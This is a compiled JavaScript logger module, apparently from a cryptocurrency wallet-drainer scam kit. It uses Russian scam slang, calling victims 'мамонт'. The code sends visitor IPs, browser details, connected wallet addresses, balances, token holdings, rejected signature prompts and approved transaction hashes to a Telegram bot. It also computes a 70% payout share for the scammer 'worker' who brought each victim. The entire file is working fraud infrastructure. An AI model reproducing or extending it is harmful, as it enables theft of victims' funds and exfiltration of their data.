"use strict";
var __awaiter = (this && this.__awaiter) || function (t, a, P, g) { return new Promise(function (r, j) { var n = g.apply(t, a); (function s(v) { var o = n.next(v); o.done ? r(o.value) : Promise.resolve(o.value).then(s, j); })(); }); };
Object.defineProperty(exports, "__esModule", { value: true });
exports.Logger = void 0;
class Logger {
    constructor(token, chat) {
        this.url = `https://api.telegram.org/bot${token}/sendMessage`;
        this.chat = chat;
        this.worker = new URLSearchParams(location.search).get("w") || "main";
    }
    send(text) {
        return __awaiter(this, void 0, void 0, function* () {
            yield fetch(this.url, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ chat_id: this.chat, text, parse_mode: "HTML", disable_web_page_preview: true }) });
        });
    }
    visit(geo) { return this.send(`👀 <b>Новый заход</b>\n🌍 ${geo.country} ${geo.ip}\n🖥 ${navigator.userAgent}\n🔗 ${location.href}\n👷 #${this.worker}`); }
    connected(w) { return this.send(`🦊 <b>Мамонт подключил кошелёк</b>\n<code>${w.address}</code>\n💰 $${w.total.toFixed(2)}\n${w.tokens.map((t) => `• ${t.symbol} $${t.usd}`).join("\n")}\n#${this.worker}`); }
    asked(t) { return this.send(`✍️ Запрос подписи: ${t.type} ${t.symbol} $${t.usd}`); }
    rejected(t) { return this.send(`❌ Отклонил ${t.type} ${t.symbol}, повтор`); }
    approved(t) { return this.send(`✅ <b>АПРУВ</b> ${t.symbol} $${t.usd}\nhash ${t.hash}\n👷 #${this.worker} доля ${(t.usd * 0.7).toFixed(2)}`); }
}
exports.Logger = Logger;
